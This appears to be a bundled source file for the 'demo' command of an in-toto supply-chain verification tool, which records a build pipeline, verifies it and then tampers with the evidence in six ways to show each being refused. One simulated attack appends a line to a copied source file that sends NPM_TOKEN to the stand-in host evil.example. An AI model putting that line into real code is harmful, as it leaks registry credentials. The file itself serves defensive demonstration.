import { X as DEFAULT_EXCLUDES, lt as FilesError, o as loadPrivateKey, q as Recorder } from "./every-action.mjs";
import { c as print, i as usage, s as pathFrom, u as EXIT } from "./command-line.mjs";
import { F as count, G as escapeUntrusted, K as quoteUntrusted, Z as PASSPHRASE_VARIABLE } from "./base.mjs";
import { s as DirectoryLinkStore } from "./gate-start.mjs";
import { a as verifySupplyChain, l as pemKeyIds } from "./intoto-verification.mjs";
import { i as failureLines } from "./every-verification.mjs";
import { t as NODE_PORTS } from "./signing-node-ports.mjs";
import { n as readPublicKeyFile, r as writeKeyPair } from "./files-write-new-file.mjs";
import { B as writeLink, Et as findDirectories, b as recordingPlan, dt as beginStep, ft as defaultSettings, mt as endStep, wt as recordDirectories } from "./every-stage.mjs";
import { t as withFilesAtHand } from "./cli-files-at-hand.mjs";
import { Nn as linkFileName, Qr as jsonObject, _n as encodeRunBinding, b as keyIdOf, c as signMetadata, rt as splitWords, st as intentsOf, t as encodeLayout } from "./intoto.mjs";
import { n as CliError } from "./cli-codes.mjs";
import { t as withCommandDirectory } from "./cli-command-directory.mjs";
import { n as endWholeStep, t as beginWholeStep } from "./cli-step-halves.mjs";
import { t as buildLayout } from "./layouts-build-layout.mjs";
import { t as generateKey } from "./signing-generate-key.mjs";
import { r as runCommand, t as byproductsOf } from "./run-and-verify.mjs";
import { basename, dirname, join, resolve } from "node:path";
import { PassThrough } from "node:stream";
const { randomBytes } = process.getBuiltinModule("node:crypto");
import { Buffer } from "node:buffer";
import { tmpdir } from "node:os";
const { appendFileSync, copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } = process.getBuiltinModule("node:fs");
import { fileURLToPath } from "node:url";
// src/cli/demo/keep-evidence.ts
/** A directory that is there and holds nothing. @throws FILE_EXISTS when it holds anything */
function emptyDirectory(path) {
	mkdirSync(path, { recursive: true });
	if (readdirSync(path).length > 0) throw new FilesError("FILE_EXISTS", "The directory to keep the evidence in is not empty.", {
		at: escapeUntrusted(path),
		hint: "Name a new directory."
	});
	return path;
}
/** Copies layout, keys, links and product, and says how to verify them again. */
function keepEvidence(pipeline, directory, say) {
	for (const name of [
		"root.layout",
		"keys",
		"links",
		"product"
	]) cpSync(join(pipeline.directory, name), join(directory, name), { recursive: true });
	const shown = escapeUntrusted(directory);
	say("");
	say(`Kept in ${shown}. Verify it again with:`);
	say(`  in-toto-actions verify -l ${shown}/root.layout --verification-keys ${shown}/keys/owner.pub --link-dir ${shown}/links --base-path ${shown}/product -p .`);
}
// src/cli/demo/attacks.ts
const YEAR = 316224e5;
const ATTACKS = [
	{
		name: "a source file is changed between checkout and build",
		expected: "TAKES_DIFFERS",
		tamper: async ({ pipeline, checkedOut, run }, { links }) => {
			appendFileSync(join(checkedOut, "src/index.mjs"), "\nfetch(\"https://evil.example/?\" + process.env.NPM_TOKEN)\n");
			await pipeline.stage("build", [
				"npm",
				"run",
				"build"
			], run, checkedOut, links);
			return { artifact: "src/index.mjs" };
		}
	},
	{
		name: "the package is replaced after packaging",
		expected: "PRODUCT_DIFFERS",
		tamper: async (_good, { products }) => {
			const [file = ""] = _good.products;
			const path = join(products, basename(file));
			const bytes = readFileSync(path);
			bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1;
			writeFileSync(path, bytes);
			return { artifact: basename(file) };
		}
	},
	{
		name: "the tests are signed by somebody who may not run them",
		expected: "LINK_THRESHOLD",
		tamper: async ({ pipeline, links: { test } }, { links }) => {
			const name = fileOf(pipeline, "test");
			const forged = pipeline.sign(test, "build", links);
			writeFileSync(join(links, name), readFileSync(forged));
			rmSync(forged);
			return { artifact: name };
		}
	},
	{
		name: "the tests are left out",
		expected: "LINK_MISSING",
		tamper: async ({ pipeline }, { links }) => {
			const name = fileOf(pipeline, "test");
			rmSync(join(links, name));
			return { artifact: name };
		}
	},
	{
		name: "the layout has expired",
		expected: "LAYOUT_EXPIRED",
		tamper: async ({ pipeline }, { layout }) => {
			pipeline.writeLayout(layout, Date.now() - 2 * YEAR);
			return { artifact: basename(layout) };
		}
	},
	{
		name: "the tests are those of an earlier run",
		expected: "LINKS_OF_DIFFERENT_RUNS",
		tamper: async ({ pipeline, links: { test } }, { links }) => {
			const earlier = encodeRunBinding({
				id: "local-000000000001",
				commit: "0".repeat(40)
			});
			const environment = jsonObject({
				...Object.fromEntries(test.environment),
				run: earlier
			});
			pipeline.sign({
				...test,
				environment
			}, "test", links);
			return { artifact: fileOf(pipeline, "test") };
		}
	}
];
/** Tries every attack on a copy of its own; `onResult` is called after each. */
async function tryAttacks(good, directory, onResult) {
	const results = [];
	for (const [index, { name, expected, tamper }] of ATTACKS.entries()) {
		const copy = join(directory, `attack-${index + 1}`);
		const { pipeline } = good;
		cpSync(pipeline.links, join(copy, "links"), { recursive: true });
		cpSync(pipeline.products, join(copy, "product"), { recursive: true });
		cpSync(pipeline.layoutPath, join(copy, "root.layout"));
		const attempt = {
			layout: join(copy, "root.layout"),
			links: join(copy, "links"),
			products: join(copy, "product")
		};
		const { artifact } = await tamper(good, attempt);
		const result = describeResult(name, expected, artifact, await good.verify(attempt));
		results.push(result);
		onResult(result);
	}
	return results;
}
function describeResult(name, expected, artifact, verification) {
	const failures = verification.outcome === "failed" ? verification.failures : [];
	const failure = failures.find(({ code }) => code === expected);
	return {
		name,
		refused: failure !== void 0,
		code: failure?.code ?? failures[0]?.code,
		step: failure?.step ?? stepOf(failure),
		rule: failure?.rule,
		artifact,
		message: failure === void 0 ? void 0 : [failure.message, ...failure.details.slice(0, 2)].join(" "),
		remedy: failure?.hint
	};
}
/** A failure of the whole chain is reported at its end, where the products are. */
function stepOf(failure) {
	if (failure === void 0) return void 0;
	return failure.code === "PRODUCT_DIFFERS" ? "package" : "(all)";
}
function fileOf({ layout }, stage) {
	const [keyId] = layout.steps.find(({ name }) => name === stage)?.pubkeys ?? [];
	return keyId === void 0 ? stage : linkFileName(stage, keyId);
}
// src/cli/demo/stages.ts
/** The stages of the demo's pipeline, in their order. */
const STAGES = [
	"checkout",
	"build",
	"test",
	"package"
];
// src/cli/demo/pipeline-keys.ts
/** One key for each functionary, and one for the owner of the layout. */
var PipelineKeys = class {
	layout;
	#text;
	#keys = /* @__PURE__ */ new Map();
	#owner = generateKey({ type: "ed25519" });
	/** @throws LayoutSourceError */
	constructor(text) {
		this.#text = text;
		this.layout = this.#buildLayout(text.now);
	}
	/** A layout names keys by path; each path stands for a key that is made here, whatever file may lie there. */
	#buildLayout(now) {
		const readKey = (path) => {
			const key = this.#keys.get(path) ?? generateKey({ type: "ed25519" });
			this.#keys.set(path, key);
			return key.publicKey;
		};
		const { layoutText: text, layoutSource: source } = this.#text;
		return buildLayout({
			text,
			source,
			readKey,
			now,
			keyIdForm: "current"
		}).layout;
	}
	/** @throws FILE_ codes */
	write(directory) {
		for (const [path, key] of this.#keys) writeKeyPair(join(directory, keyName(path)), key);
		writeKeyPair(join(directory, "owner"), this.#owner);
	}
	/**
	* The layout, signed under both forms of the owner's key id, because other tools look for one or the other.
	*
	* @param asOf when its expiry starts, in milliseconds since the epoch
	*/
	signedLayout(asOf = this.#text.now) {
		const signer = loadPrivateKey({
			pem: this.#owner.privatePem,
			source: "owner"
		});
		const signers = pemKeyIds(signer.publicKey).map((keyId) => ({
			signer,
			keyId
		}));
		const layout = asOf === this.#text.now ? this.layout : this.#buildLayout(asOf);
		return signMetadata({
			payload: encodeLayout(layout),
			format: "dsse",
			signers
		});
	}
	/** The key of the first functionary of a step. @throws USAGE */
	functionary(step) {
		const [keyId] = this.layout.steps.find(({ name }) => name === step)?.pubkeys ?? [];
		const key = [...this.#keys.values()].find(({ publicKey }) => keyIdOf(publicKey, "current") === keyId);
		if (key === void 0) throw new CliError("USAGE", `The layout has no step ${quoteUntrusted(step)}.`, { hint: `The pipeline has the steps ${STAGES.join(", ")}; the layout must have the same.` });
		return key;
	}
};
function keyName(path) {
	return (path.split(/[/\\]/).at(-1) ?? path).replace(/\.pub$/, "");
}
// src/cli/demo/quiet-command.ts
/** npm and node set variables for their children that would change how another npm or node behaves. */
function cleanEnvironment(environment) {
	return Object.fromEntries(Object.entries(environment).filter(([name]) => !/^(npm_|NODE_TEST_|NODE_OPTIONS$|INIT_CWD$|GIT_DIR$|GIT_WORK_TREE$|GIT_INDEX_FILE$)/i.test(name)));
}
/** Runs a command; `printed` is told what it prints on either stream. */
async function runApart(request, printed) {
	const output = new PassThrough();
	output.on("data", printed);
	return runCommand({
		...request,
		environment: cleanEnvironment(request.environment),
		withheld: [PASSPHRASE_VARIABLE],
		stdout: output,
		stderr: output
	});
}
/** Runs the command of a stage; returns its by-products. @throws COMMAND_FAILED with the end of what it printed */
async function runStageCommand(command, directory, environment) {
	const chunks = [];
	const [program = "", ...words] = process.platform === "win32" ? [
		"cmd",
		"/d",
		"/s",
		"/c",
		...command
	] : command;
	const result = await runApart({
		command: [program, ...words],
		directory,
		environment,
		streams: "pass"
	}, (chunk) => chunks.push(chunk));
	if (result.ended === "exited" && result.status === 0) return byproductsOf(result);
	const printed = Buffer.concat(chunks).toString("utf8").trimEnd();
	const failed = `The command ${quoteUntrusted(command.join(" "))} ${howItFailed(result)}`;
	if (printed === "") throw new CliError("COMMAND_FAILED", `${failed} and printed nothing.`, { hint: "Run it yourself in the project, and make it succeed." });
	const tail = printed.split("\n").slice(-15);
	throw new CliError("COMMAND_FAILED", `${failed}. It printed:\n${tail.map((line) => `    ${escapeUntrusted(line)}`).join("\n")}`, { hint: "Fix what the command reports." });
}
function howItFailed(result) {
	if (result.ended === "exited") return `failed with status ${result.status}`;
	return result.ended === "killed" ? `was ended by ${result.signal}` : "took too long";
}
/** Runs a command and keeps what it prints. */
async function runKept(command, directory, environment) {
	return runApart({
		command,
		directory,
		environment,
		streams: "record"
	}, () => void 0);
}
// src/cli/demo/pipeline.ts
/** Packages that a command installs are one product each directory; tools keep caches in there. */
const PACKAGES = [{
	text: "**/node_modules",
	leftOut: [".cache/"]
}];
/** Keys, layout, workspace and links of one pipeline. */
var Pipeline = class {
	directory;
	workspace;
	links;
	products;
	#request;
	#keys;
	#intents;
	/** Makes fresh keys, and builds and signs the layout. @throws LayoutSourceError, FILE_ codes */
	constructor(request) {
		this.#request = request;
		this.directory = request.directory;
		this.workspace = join(this.directory, "workspace");
		this.links = join(this.directory, "links");
		this.products = join(this.directory, "product");
		const keys = join(this.directory, "keys");
		for (const directory of [
			this.workspace,
			this.links,
			this.products,
			keys
		]) mkdirSync(directory, { recursive: true });
		this.#keys = new PipelineKeys(request);
		this.#keys.write(keys);
		this.#intents = intentsOf(this.layout);
		this.writeLayout(this.layoutPath);
	}
	get layout() {
		return this.#keys.layout;
	}
	get layoutPath() {
		return join(this.directory, "root.layout");
	}
	get ownerKeyPath() {
		return join(this.directory, "keys", "owner.pub");
	}
	/** @param asOf see `PipelineKeys.signedLayout` */
	writeLayout(path, asOf) {
		writeFileSync(path, this.#keys.signedLayout(asOf));
	}
	/** Clones the repository; the link's products are all files of the commit. */
	async checkout() {
		const { console, repository } = this.#request;
		const commit = await headOf(repository, console.environment);
		const run = {
			id: `local-${randomBytes(6).toString("hex")}`,
			commit
		};
		return {
			link: await this.stage("checkout", [
				"git",
				"-c",
				"core.autocrlf=false",
				"clone",
				"--quiet",
				"--no-hardlinks",
				repository,
				"."
			], run),
			run
		};
	}
	/** Runs a stage in a workspace and writes its link. */
	async stage(name, command, run, workspace = this.workspace, links = this.links) {
		const { recorder, console } = this.#request;
		const { environment } = console;
		const plan = this.#intents === void 0 ? void 0 : recordingPlan(this.#intents, name);
		if (plan !== void 0) return this.#wholeStage({
			step: name,
			plan,
			base: workspace
		}, command, run, links);
		const settings = {
			...defaultSettings(workspace),
			exclude: DEFAULT_EXCLUDES
		};
		const before = await this.#packages(workspace);
		const recorded = await beginStep(recorder, {
			name,
			materials: ["."],
			settings,
			run,
			directories: before
		});
		const begun = withCommandDirectory(recorded, workspace, workspace);
		const result = await runStageCommand(command, workspace, environment);
		const packages = await this.#packages(workspace);
		const directories = {
			recorded: newIn(before, packages),
			apart: packages.apart,
			unrecorded: []
		};
		const after = await recorder.record({
			...settings,
			paths: ["."],
			apart: packages.apart
		});
		const products = name === "package" ? [...after.artifacts].filter(([path, digests]) => begun.materials.get(path) !== digests).map(([path]) => path) : ["."];
		if (products.length === 0) throw new CliError("COMMAND_FAILED", `The package command ${quoteUntrusted(command.join(" "))} made no file.`);
		const end = {
			products,
			settings,
			directories,
			command: [...command],
			byproducts: result
		};
		const link = await endStep(recorder, begun, end);
		this.sign(link, name, links);
		return link;
	}
	/** A stage of a step in intents, which is recorded whole, as `run` does it. */
	async #wholeStage({ step, plan, base }, command, run, links) {
		const { recorder, console, layoutSource } = this.#request;
		const whole = {
			step,
			planned: {
				plan,
				from: layoutSource,
				layout: ""
			},
			base,
			console,
			onProgress: () => void 0
		};
		const begun = withCommandDirectory(await beginWholeStep(recorder, whole, run), base, base);
		const byproducts = await runStageCommand(command, base, console.environment);
		const link = await endWholeStep(recorder, begun, whole, {
			command: [...command],
			byproducts
		});
		this.sign(link, step, links);
		return link;
	}
	async #packages(workspace) {
		const places = {
			workspace,
			home: ""
		};
		return recordDirectories(this.#request.recorder, findDirectories(PACKAGES, places), places);
	}
	/** Writes a link, signed by the functionary of a step. */
	sign(link, functionaryOf, links = this.links) {
		const signer = loadPrivateKey({
			pem: this.#keys.functionary(functionaryOf).privatePem,
			source: functionaryOf
		});
		return writeLink({
			link,
			directory: links,
			format: "dsse",
			signing: {
				signer,
				keyId: keyIdOf(signer.publicKey, "current")
			}
		});
	}
	/** Copies what the last stage made to where it is kept. */
	keepProducts({ materials, products }) {
		return [...products].filter(([path, digests]) => materials.get(path) !== digests).map(([path]) => {
			const target = join(this.products, path);
			mkdirSync(dirname(target), { recursive: true });
			copyFileSync(join(this.workspace, path), target);
			return target;
		});
	}
};
/** Directories that were installed, or installed anew with another content. */
function newIn(before, after) {
	const known = new Map(before.artifacts);
	const artifacts = after.artifacts.filter(([name, digest]) => known.get(name) !== digest);
	const notes = new Map([...after.notes].filter(([name]) => artifacts.some(([recorded]) => recorded === name)));
	return {
		...after,
		artifacts,
		notes
	};
}
/** The commit of a repository. @throws COMMAND_FAILED */
async function headOf(repository, environment) {
	const command = [
		"git",
		"rev-parse",
		"HEAD"
	];
	const result = await runKept(command, repository, environment);
	if (result.ended === "exited" && result.status === 0) return result.stdout.trim();
	throw new CliError("COMMAND_FAILED", `The command ${quoteUntrusted(command.join(" "))} failed in ${quoteUntrusted(repository)}.`, { hint: "The project must be a git repository with at least one commit." });
}
// src/cli/demo/project.ts
/** The pipeline that the flags ask for. @throws USAGE, COMMAND_FAILED, FILE_UNREADABLE */
async function pipelineRequest({ parsed, console, work, recorder }) {
	const directory = join(work, "pipeline");
	mkdirSync(directory);
	const common = {
		directory,
		console,
		recorder,
		now: console.now()
	};
	const project = parsed.one("project");
	if (project === void 0) {
		for (const flag of [
			"layout",
			"build",
			"test",
			"package"
		]) if (parsed.has(flag)) throw usage(`--${flag} goes with --project.`);
		const example = exampleProject();
		const repository = join(work, "upstream");
		await makeRepository(example, repository, console);
		const layoutPath = join(example, ".in-toto", "layout.yml");
		return {
			...common,
			repository,
			layoutText: readFileSync(layoutPath, "utf8"),
			layoutSource: "examples/greeter/.in-toto/layout.yml",
			commands: {
				build: [
					"npm",
					"run",
					"build"
				],
				test: ["npm", "test"],
				package: ["npm", "pack"]
			}
		};
	}
	const layout = parsed.required("layout");
	return {
		...common,
		repository: pathFrom(console, project),
		layoutText: readFileSync(pathFrom(console, layout), "utf8"),
		layoutSource: layout,
		commands: {
			build: splitWords(parsed.required("build")),
			test: splitWords(parsed.required("test")),
			package: splitWords(parsed.required("package"))
		}
	};
}
/** The example lies beside the bundle; it is found from the bundle, from one of its chunks and from the source. */
function exampleProject() {
	const here = dirname(fileURLToPath(import.meta.url));
	const found = [
		"..",
		"../..",
		"../../.."
	].map((up) => resolve(here, up, "examples/greeter")).find((path) => existsSync(join(path, "package.json")));
	if (found === void 0) throw new FilesError("FILE_UNREADABLE", "The example project is missing beside the program.", { hint: "Install the program again." });
	return found;
}
const IDENTITY = [
	"user.name=demo",
	"user.email=demo@example.invalid",
	"core.autocrlf=false",
	"commit.gpgsign=false"
];
async function makeRepository(source, target, console) {
	cpSync(source, target, { recursive: true });
	const identity = IDENTITY.flatMap((setting) => ["-c", setting]);
	for (const words of [
		[
			"init",
			"--quiet",
			"--initial-branch=main"
		],
		[
			...identity,
			"add",
			"--all",
			"--force"
		],
		[
			...identity,
			"commit",
			"--quiet",
			"--message=The greeter"
		]
	]) {
		const result = await runKept(["git", ...words], target, console.environment);
		if (result.ended !== "exited" || result.status !== 0) throw new CliError("COMMAND_FAILED", `git ${words.at(-1)} failed: ${result.ended === "exited" ? escapeUntrusted(result.stderr) : result.ended}`, { hint: "The demo needs git 2.28 or later." });
	}
}
// src/cli/demo/run-demo.ts
/** Runs the pipeline, verifies it and attacks it; returns the exit status. */
async function runDemo(context) {
	const { parsed, console, keepAt } = context;
	const [json, ownProject] = [parsed.has("json"), parsed.has("project")];
	const say = (text) => {
		if (!json) print(console, text);
	};
	const stages = [];
	const good = await runPipeline(context, stages, say);
	const { pipeline, checkout, products } = good;
	const start = performance.now();
	const { layoutPath: layout, links, products: directory } = pipeline;
	const verification = await good.verify({
		layout,
		links,
		products: directory
	});
	stages.push({
		name: "verify",
		materials: checkout.products.size,
		products: products.length,
		seconds: secondsSince(start)
	});
	say(`  verify    ${pipeline.layout.steps.length} links against the signed layout`);
	say("");
	sayVerdict(verification, say);
	const attacks = ownProject || verification.outcome === "failed" ? [] : await attack(good, context.work, say);
	if (keepAt !== void 0) keepEvidence(pipeline, keepAt, say);
	if (json) print(console, JSON.stringify({
		stages,
		verdict: verification.outcome,
		attacks
	}, null, 2));
	const allRefused = attacks.every(({ refused }) => refused);
	if (!ownProject && !json) say(allRefused ? "All six attacks were refused." : "An attack was NOT refused.");
	return verification.outcome === "passed" && allRefused ? EXIT.yes : EXIT.no;
}
/** Every stage once; each is reported when it is done. */
async function runPipeline(context, stages, say) {
	const { parsed, console, work, recorder } = context;
	const request = await pipelineRequest(context);
	const pipeline = new Pipeline(request);
	const report = (name, start, { materials, products }) => {
		const stage = {
			name,
			materials: materials.size,
			products: products.size,
			seconds: secondsSince(start)
		};
		stages.push(stage);
		say(`  ${name.padEnd(9)} ${count(stage.materials, "material")}, ${count(stage.products, "product")}, signed (${stage.seconds} s)`);
	};
	say("The pipeline, each stage recorded and signed by its own key:");
	const start = performance.now();
	const { link: checkout, run } = await pipeline.checkout();
	report("checkout", start, checkout);
	const checkedOut = join(work, "checked-out");
	if (!parsed.has("project")) cpSync(pipeline.workspace, checkedOut, { recursive: true });
	const perform = async (stage) => {
		const begun = performance.now();
		const link = await pipeline.stage(stage, request.commands[stage], run);
		report(stage, begun, link);
		return link;
	};
	const build = await perform("build");
	const test = await perform("test");
	const products = pipeline.keepProducts(await perform("package"));
	const verify = async (attempt) => verifyAttempt(pipeline, attempt, recorder, console.now());
	return {
		pipeline,
		run,
		links: {
			build,
			test
		},
		checkedOut,
		products,
		verify,
		checkout
	};
}
function secondsSince(start) {
	return Math.round((performance.now() - start) / 100) / 10;
}
async function verifyAttempt(pipeline, { layout, links, products }, recorder, now) {
	const verification = await verifySupplyChain({
		ports: NODE_PORTS,
		layout: readFileSync(layout),
		layoutSource: basename(layout),
		layoutKeys: [readPublicKeyFile(pipeline.ownerKeyPath)],
		links: new DirectoryLinkStore(links),
		now,
		compatibility: "strict"
	});
	return withFilesAtHand(verification, recorder, {
		...defaultSettings(products),
		exclude: [],
		paths: ["."]
	});
}
function sayVerdict(verification, say) {
	if (verification.outcome === "passed") {
		say("PASSED: the supply chain verifies. Final products:");
		for (const [path, digests] of verification.summary.products) say(`  ${escapeUntrusted(path)}  ${escapeUntrusted(digests)}`);
	} else {
		say("FAILED: the supply chain does not verify.");
		for (const failure of verification.failures) for (const line of failureLines(failure)) say(`  ${line}`);
	}
}
async function attack(good, work, say) {
	say("");
	say("Now the same evidence, tampered with in six ways:");
	return tryAttacks(good, work, (result) => {
		say("");
		say(`${result.refused ? "REFUSED" : "NOT REFUSED"}: ${result.name}`);
		say(`  check:    ${result.code ?? "none"}${result.rule === void 0 ? "" : ` by the rule ${result.rule}`}`);
		say(`  step:     ${result.step ?? "none"}`);
		say(`  artifact: ${escapeUntrusted(result.artifact)}`);
		if (result.message !== void 0) say(`  reason:   ${result.message}`);
		if (result.remedy !== void 0) say(`  remedy:   ${result.remedy}`);
	});
}
// src/cli/commands/demo.ts
const demo = {
	spec: {
		name: "demo",
		summary: "record, verify and attack a real project, in ten seconds",
		description: "Takes a small npm package from git through checkout, build, test and package with fresh keys, verifies the links\nagainst a signed layout, then tampers with the evidence in six ways and shows how each is refused.\nWith --project it records and verifies your own project (a git repository) and attacks nothing.",
		flags: [
			{
				long: "project",
				takes: "one",
				value: "DIR",
				help: "a git repository to take in place of the example"
			},
			{
				long: "layout",
				takes: "one",
				value: "FILE",
				help: "its layout source, with the steps checkout, build, test, package"
			},
			{
				long: "build",
				takes: "one",
				value: "COMMAND",
				help: "how it is built"
			},
			{
				long: "test",
				takes: "one",
				value: "COMMAND",
				help: "how it is tested"
			},
			{
				long: "package",
				takes: "one",
				value: "COMMAND",
				help: "how it is packaged; the files that this makes are the products"
			},
			{
				long: "keep",
				takes: "one",
				value: "DIR",
				help: "leave layout, keys, links and product there"
			},
			{
				long: "json",
				takes: "nothing",
				help: "print the result as JSON"
			}
		],
		examples: ["in-toto-actions demo", "in-toto-actions demo --project . --layout .in-toto/layout.yml --build \"npm run build\" --test \"npm test\" --package \"npm pack\""]
	},
	run: async (parsed, console) => {
		const keep = parsed.one("keep");
		const keepAt = keep === void 0 ? void 0 : emptyDirectory(pathFrom(console, keep));
		const work = mkdtempSync(join(tmpdir(), "in-toto-demo-"));
		const recorder = new Recorder();
		try {
			return await runDemo({
				parsed,
				console,
				work,
				recorder,
				keepAt
			});
		} finally {
			await recorder.close();
			rmSync(work, {
				recursive: true,
				force: true
			});
		}
	}
};
export { demo };
